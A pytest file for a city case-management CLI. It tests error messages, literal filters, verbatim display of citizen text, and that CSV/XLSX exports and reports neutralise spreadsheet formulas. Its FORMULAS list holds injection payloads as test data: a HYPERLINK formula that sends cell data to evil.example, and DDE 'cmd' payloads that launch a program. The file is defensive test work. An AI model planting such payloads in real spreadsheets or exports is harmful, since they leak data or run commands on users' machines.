"""Issue 10 from the command line, on both backends: bad options are one-line errors, filters are not
wildcards, `case show` prints a citizen's text as text (in linear time), and no export or report hands a
spreadsheet a live formula (checked with openpyxl and by LibreOffice itself, headless)."""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from rich.console import Console
from typer.testing import CliRunner

sys.path.insert(0, str(Path(__file__).parents[1] / "db"))
from test_import_support import HEADER, add_territory, write_csv

from gridwatch.cli import app
from gridwatch.cli import cases as cases_cli
from gridwatch.db.imports.cases import import_cases
from gridwatch.db.models import Department
from gridwatch.db.store import Store
from tests.cli.test_cases_cli import url_of

runner = CliRunner()
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
CLOSED = (
    "{no},hotline,06010,,{text},118.005,24.41,,2024-05-06 09:00,2024-05-06 09:10,2024-05-06 09:20,{dept},"
    "2024-05-06 10:00,2024-05-06 10:30,2024-05-06 11:00,closed"
)


def gw(store: Store, *args: str) -> tuple[int, str]:
    result = runner.invoke(app, [*args, "--db", url_of(store)], terminal_width=200)
    return result.exit_code, result.output


def libreoffice(source: Path, to: str, tmp_path: Path, infilter: str | None = None) -> Path:
    """Let LibreOffice Calc open `source` the way a user's double-click would, and save it as `to`."""
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice (libreoffice-calc-nogui, installer/test-packages.txt) is needed"
    out = tmp_path / "lo"
    args = [soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/lo-profile"]
    args += [f"--infilter={infilter}"] if infilter else []
    subprocess.run([*args, "--convert-to", to, "--outdir", str(out), str(source)], check=True, timeout=180)
    return out / f"{source.stem}.{to.split(':')[0]}"


def test_case_report_refuses_an_urgency_outside_a_b_c(store: Store, staff: dict[str, str]) -> None:
    for urgency in ("AB", "Z"):
        code, out = gw(
            store, "case", "report", "--category", "06010", "--lon", "118.09", "--lat", "24.47",
            "--urgency", urgency, "--as", "worker",
        )  # fmt: skip
        assert code == 1 and f"urgency '{urgency}' is not A (紧急), B (重要) or C (普通)." in out, out
        assert "Traceback" not in out
    assert json.loads(gw(store, "cases", "list", "--json")[1]) == []


def test_filters_are_not_wildcards_and_a_misspelled_state_is_an_error(store: Store, tmp_path: Path) -> None:
    add_territory(store)
    rows = [CLOSED.format(no="W1", text="x", dept="CGJ"), CLOSED.format(no="W2", text="y", dept="CGJ")]
    rows[1] = rows[1].replace(",06010,", ",09006,")
    assert import_cases(store, write_csv(tmp_path / "c.csv", [HEADER, *rows])).inserted == 2
    listed = {
        args: sorted(c["case_no"] for c in json.loads(gw(store, "cases", "list", *args, "--json")[1]))
        for args in (("--category", "0_"), ("--category", "06"), ("--area", "%"), ("--area", "3502"))
    }
    assert listed == {
        ("--category", "0_"): [],
        ("--category", "06"): ["W1"],
        ("--area", "%"): [],
        ("--area", "3502"): ["W1", "W2"],
    }
    code, out = gw(store, "cases", "list", "--state", "handlin")
    assert code == 1 and "Unknown state 'handlin'. Valid: reported, verifying, registered," in out


def test_case_show_prints_a_long_description_verbatim_and_uncoloured(
    store: Store, staff: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Item 7: rich's highlighter took 5 s for 20,000 characters without a space (quadratic in a long word;
    bench/case_show.py prints the time `case show` takes); markup in a citizen's text (`[/]`) would have
    been a traceback. Shown as a colour terminal wide enough for the whole line shows it: the header is
    styled, the citizen's text is the text itself, no markup taken from it and no colour added to it."""
    text = "[/] [red]不是标记[/red] " + "垃圾满溢" * 4_990
    no = store.report(
        actor="worker", source="citizen", category_code="06010", lon=118.09, lat=24.47, description=text
    ).case_no
    terminal = Console(force_terminal=True, color_system="truecolor", width=50_000)
    monkeypatch.setattr(cases_cli, "console", terminal)
    code, out = gw(store, "case", "show", no, "--as", "worker")
    assert code == 0, out
    header, shown = out.splitlines()[:2]
    assert header.startswith("\x1b[") and no in header  # this terminal shows colour: the header has some
    assert shown == f"{text}  grid outside every grid  department —  deadline —"


def test_exports_and_reports_hand_no_formula_to_a_spreadsheet(store: Store, tmp_path: Path) -> None:
    """Item 11: export cases (CSV) and report metrics (CSV, XLSX), opened by openpyxl and LibreOffice."""
    add_territory(store)
    with store.session() as s:
        s.add(Department(code="EVIL", name=FORMULAS[0], updated_at=datetime.now(UTC)))
    rows = [
        CLOSED.format(no=f"F{i}", text='"' + t.replace('"', '""') + '"', dept="EVIL")
        for i, t in enumerate(FORMULAS)
    ]
    assert import_cases(store, write_csv(tmp_path / "in.csv", [HEADER, *rows])).inserted == 3

    exported = tmp_path / "cases.csv"
    assert gw(store, "export", "cases", str(exported))[0] == 0
    with exported.open(encoding="utf-8-sig", newline="") as f:
        descriptions = [r["description"] for r in csv.DictReader(f)]
    assert descriptions == ["'" + t for t in FORMULAS]
    book = load_workbook(libreoffice(exported, "xlsx", tmp_path, "CSV:44,34,76,1"))
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert sorted(c.value for c in cells if str(c.value).startswith("'")) == sorted("'" + t for t in FORMULAS)

    period = ("report", "metrics", "--from", "2024-05-01", "--to", "2024-05-31", "--by", "department")
    code, out = gw(store, *period, "--format", "csv")
    assert code == 0, out
    evil = next(r for r in csv.reader(out.splitlines()) if r[0] == "EVIL")
    assert evil[1] == "'" + FORMULAS[0]

    xlsx = tmp_path / "metrics.xlsx"
    assert gw(store, *period, "--format", "xlsx", "--out", str(xlsx))[0] == 0
    sheet = load_workbook(xlsx).active
    name = next(row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == "EVIL")
    assert (name.value, name.data_type, name.quotePrefix) == (FORMULAS[0], "s", True)
    as_csv = libreoffice(xlsx, "csv:Text - txt - csv (StarCalc):44,34,76", tmp_path)
    with as_csv.open(encoding="utf-8", newline="") as f:
        shown = next(r for r in csv.reader(f) if r[0] == "EVIL")
    assert shown[1] == FORMULAS[0]  # the text, not "click"
